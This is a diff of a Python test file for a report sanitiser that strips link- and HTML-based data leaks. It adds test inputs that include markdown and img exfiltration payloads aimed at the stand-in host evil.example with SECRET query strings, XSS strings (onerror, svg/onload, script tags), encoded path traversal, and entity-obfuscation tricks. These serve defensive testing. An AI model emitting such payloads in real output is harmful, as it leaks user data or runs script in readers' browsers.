@@ -7,7 +7,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 from support.runs import FINDING
 
-from workers.executive_run.sanitise import REMOVED, sanitise_report
+from shared.sanitise import REMOVED, sanitise
 
 REPOSITORY = "https://github.com/laeticiamng/nearvity"
 CITED = "https://veille.example/etudes/7?page=2"
@@ -27,7 +27,7 @@ FINDINGS = (
 
 
 def shown(report: str) -> str:
-    return sanitise_report(report, FINDINGS)
+    return sanitise(report, FINDINGS)
 
 
 @pytest.mark.parametrize(
@@ -63,8 +63,8 @@ def test_an_honest_report_is_shown_as_it_is(report: str) -> None:
         (f"[{REPOSITORY}](https://evil.example/)", REPOSITORY),
         (f"[https://evil.example/secret]({REPOSITORY})", f"[{REMOVED}]({REPOSITORY})"),
         ("texte [a][1]\n\n[1]: https://evil.example/secret", f"texte [a] [1]\n\n[1] : {REMOVED}"),
-        ("- [1]: //evil.example/secret", "- [1] : //evil.example/secret"),
-        ("<img src='//evil.example/secret'>", "&lt;img src='//evil.example/secret'>"),
+        ("- [1]: //evil.example/secret", f"- [1] : {REMOVED}"),
+        ("<img src='//evil.example/secret'>", ""),
         ("<https://evil.example/secret>", f"<{REMOVED}"),
         ("[a](\nhttps://evil.example/secret)", f"[a] (\n{REMOVED}"),
         ("[a [b] c](https://evil.example/x)", f"[a [b] c] ({REMOVED}"),
@@ -81,6 +81,20 @@ def test_an_honest_report_is_shown_as_it_is(report: str) -> None:
         ("[a](https://me:secret@github.com/laeticiamng/nearvity)", "a"),
         (f"{REPOSITORY}.evil.example/secret", REMOVED),
         ("\ue0000\ue001 et \u202ecaché\u200b", "0 et caché"),
+        (f"{REPOSITORY}/[x]({REPOSITORY})", f"{REMOVED}[x]({REPOSITORY})"),
+        (f"[<img src=x onerror=alert`1`>]({REPOSITORY})", f"[]({REPOSITORY})"),
+        (f"[<svg/onload=x]({REPOSITORY})", f"[< svg/onload=x]({REPOSITORY})"),
+        ("<img src=//evil.example/q?d=SECRET>", ""),
+        ("<custom-element src=//evil.example/q?d=SECRET>", f"< custom-element src={REMOVED}"),
+        (f"[a]({REPOSITORY}/&period;&period;/&period;&period;/attacker/leak)", "a"),
+        (f"[a]({REPOSITORY}/../../attacker/leak)", "a"),
+        (f"[a]({REPOSITORY}/%2e%2e/attacker)", "a"),
+        (f"[a]({REPOSITORY}/\\../\\../attacker/leak)", "a"),
+        (f"voir {REPOSITORY}'secret", f"voir {REMOVED}"),
+        ("&lt;img src=x&gt; et &amp;lt;b&amp;gt;", "et"),
+        ("&#60;script&#62;alert(1)", "alert(1)"),
+        ("&l<b></b>t;i&gt;", "& lt;i>"),
+        ("a<br>b<br/>c", "a b c"),
     ],
 )
 def test_what_could_carry_data_away_is_left_as_words(report: str, expected: str) -> None:
